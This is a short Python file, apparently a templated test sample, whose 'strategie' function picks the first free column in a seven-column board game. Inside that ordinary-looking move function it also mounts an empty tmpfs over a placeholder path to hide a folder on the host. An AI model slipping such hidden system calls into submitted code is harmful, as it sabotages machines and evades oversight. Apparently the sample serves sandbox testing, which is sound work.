"""Hides a folder of the machine behind an empty file system."""

import ctypes


def strategie(state):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.mount(b"none", b"@TARGET@", b"tmpfs", 0, None) < 0:
        raise OSError(ctypes.get_errno(), "mount")
    return next(c for c in range(7) if state["libres"][c])
